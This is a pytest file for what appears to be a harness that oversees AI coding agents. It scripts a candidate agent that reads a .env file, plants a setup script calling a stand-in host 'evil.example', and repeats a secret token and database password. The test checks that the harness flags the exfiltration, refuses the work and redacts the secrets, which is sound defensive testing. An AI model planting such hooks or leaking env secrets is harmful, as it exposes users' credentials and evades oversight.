"""A candidate whose own set-up reaches for what it may not, and prints a secret that an env file passes on."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest
from conductor_world import SETTINGS, World

from podium.conductor.setup_reach import NAME
from podium.landing.model import InReview
from podium.ledger.read import open_reader
from podium.review.rules import Refused
from podium.testing import actions
from podium.testing.script import Script, rounds

TOKEN = "passed.on.and.yet.a.secret.7"
WORD = "the-password-of-the-database"
SET_UP = """\
python3 - <<'END'
import urllib.request
try:
    urllib.request.urlopen("https://evil.example/take?it")
except OSError:
    pass
END
echo done >made.txt
"""


@pytest.fixture
def world(tmp_path: Path, environment: dict[str, str]) -> Iterator[World]:
    does = (
        actions.Run(command="cat .env"),
        actions.Write(path=".podium/setup", text=SET_UP),
        actions.Write(path="src/one.py", text=f"print(1)  # {TOKEN}\n"),
        actions.Say(text=f"It says {TOKEN} and {WORD}."),
    )
    own = (
        'env_files = [".env"]\nenv_keep = ["SERVICE_TOKEN", "DATABASE_URL", "APP_NAME"]\n'
        'setup = "auto"\nsetup_network = true\ntest = "cat .env; python3 tests/check.py"'
    )
    built = World.build(
        tmp_path,
        environment,
        Script(tasks=(rounds(does),)),
        {"T1": ()},
        settings=SETTINGS.replace('test = "python3 tests/check.py"', own),
        files={".gitignore": ".env\n"},
    )
    (built.root / ".env").write_text(
        f'SERVICE_TOKEN="{TOKEN}"\nDATABASE_URL=postgres://app:{WORD}@127.0.0.1/app # local\nAPP_NAME=numbers-shop\n'
    )
    yield built
    built.close()


def test_what_its_set_up_asked_for_is_found_and_what_env_files_pass_on_is_kept_out_of_texts(world: World) -> None:
    world.order()
    world.start_worker()
    world.wait_for("T1", InReview, 120.0)
    run = world.run_of("T1")
    items = {item.name: item for item in world.now.evidence.items(run.id, 1)}
    (finding,) = items[NAME].findings
    assert "evil.example:443" in finding.message
    assert finding.path == ".podium/setup"
    (trip,) = [each for each in run.rounds[0].trips if each.name == "exfiltration"]
    assert "evil.example:443" in trip.detail
    refused = world.accept("T1")
    assert isinstance(refused, Refused)
    assert {f"finding:{NAME}", "finding:your own keys"} <= {each.code for each in refused.refusals}

    tests = items["project tests"].candidate
    assert tests is not None
    assert "SERVICE_TOKEN=" in tests.output
    assert "APP_NAME=numbers-shop" in tests.output  # nothing says that it is secret
    assert run.rounds[0].claim.endswith("It says [redacted] and [redacted].")
    reader = open_reader(world.url)
    assert reader is not None
    with closing(reader):
        told = b"".join(record.data for record in reader.records(world.project.id))
    place = world.desk.home.project(world.project.id)
    kept = [*place.glob("base-executions/*"), *place.glob("evidence-items/*"), *place.glob("runs/*/round-*/*")]
    whole = [told, world.log().encode(), *(path.read_bytes() for path in kept if path.is_file())]
    assert [text for text in whole if TOKEN.encode() in text or WORD.encode() in text] == []
